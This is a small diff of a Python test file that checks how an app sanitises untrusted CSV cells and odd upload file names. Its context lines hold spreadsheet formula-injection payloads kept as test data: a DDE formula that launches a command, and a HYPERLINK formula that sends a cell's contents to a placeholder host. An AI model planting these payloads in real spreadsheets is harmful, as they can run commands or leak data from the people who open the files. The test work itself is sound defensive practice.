@@ -28,7 +28,7 @@ from model.system import LOOPS, SECTORS
 from model.untrusted import csv_text, safe_cells, safe_key, write_csv
 
 from .conftest import KECHENG
-from .test_app import _errors, _keep_main_module, _plain, _start  # noqa: F401 (a fixture)
+from .test_app import _errors, _keep_main_module, _picker, _plain, _start  # noqa: F401
 
 HYPERLINK = '=HYPERLINK("https://x/"&A1,"x")'
 DDE = "=1+cmd|' /C calc'!A0"
@@ -290,7 +290,7 @@ def test_an_odd_upload_name_is_shown_short_and_as_text(hostile_folder):
     data = KECHENG.read_bytes()
     at.file_uploader(key="upload").set_value(("a\x00b" + "z" * 300 + ".toml", data,
                                               "application/toml")).run()
-    picked = at.selectbox(key="scenario_name").value.rpartition("/")[2]   # upload-<hash>/
+    picked = _picker(at).value.rpartition("/")[2]   # upload-<hash>/
     assert picked.endswith("….toml") and len(picked) <= 80 and "\x00" not in picked
 
 
